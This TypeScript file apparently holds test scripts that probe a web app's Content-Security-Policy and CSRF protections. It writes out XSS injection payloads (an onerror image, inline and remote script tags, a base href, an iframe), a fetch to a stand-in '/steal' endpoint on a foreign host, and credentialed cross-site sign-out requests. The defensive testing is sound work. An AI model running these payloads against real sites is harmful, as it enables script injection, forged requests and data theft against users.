/** Scripts that run in a browser's page, as text: what an attacker tries there. */

/** Markup and scripts that got into our own page. @param other a site of somebody else */
export const injectInto = (other: string) => `(async () => {
  const broken = new Set();
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.add(effectiveDirective));
  document.body.insertAdjacentHTML(
    'beforeend',
    '<img src="x" onerror="document.title = \\'run\\'"><img src="${other}/x.png"><base href="${other}/"><iframe src="${other}/"></iframe>',
  );
  const inline = document.createElement('script');
  inline.textContent = 'document.title = "run"';
  const remote = document.createElement('script');
  remote.src = '${other}/x.js';
  document.body.append(inline, remote);
  const sent = await fetch('${other}/steal').then(() => 'sent', () => 'kept');
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { title: document.title, sent, broken: [...broken] };
})()`;

/** A page of somebody else tries to use our page, with the browser's cookie. @param target our page, without a slash at its end */
export const attackFromOutside = (target: string) => `(async () => {
  const results = {};
  const attempt = async (name, path, init) => {
    const answer = fetch('${target}' + path, { credentials: 'include', ...init });
    results[name] = await answer.then(({ type, status }) => type + ' ' + status, () => 'kept');
  };
  await attempt('read', '/v1/me', {});
  const headers = { 'content-type': 'text/plain' };
  await attempt('form', '/v1/sign-out', { method: 'POST', mode: 'no-cors', body: '{}', headers });
  await attempt('json', '/v1/sign-out', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } });
  await attempt('header', '/v1/sign-out', { method: 'POST', headers: { 'x-holdfast-csrf': 'x' } });
  const frame = document.createElement('iframe');
  frame.src = '${target}/';
  document.body.append(frame);
  await new Promise((resolve) => frame.addEventListener('load', resolve));
  const form = document.createElement('form');
  form.method = 'post';
  form.action = '${target}/v1/sign-out';
  form.target = 'elsewhere';
  document.body.append(form);
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 500));
  return results;
})()`;

/** Our own page signs out: without its token, with a wrong one, with the right one; and then asks who it is. */
export const SIGN_OUT_THREE_WAYS = `(async () => {
  const { csrf } = await (await fetch('v1/me')).json();
  const post = async (headers) => (await fetch('v1/sign-out', { method: 'POST', headers })).status;
  const statuses = [await post({}), await post({ 'x-holdfast-csrf': 'x'.repeat(43) }), await post({ 'x-holdfast-csrf': csrf })];
  return [...statuses, (await fetch('v1/me')).status];
})()`;
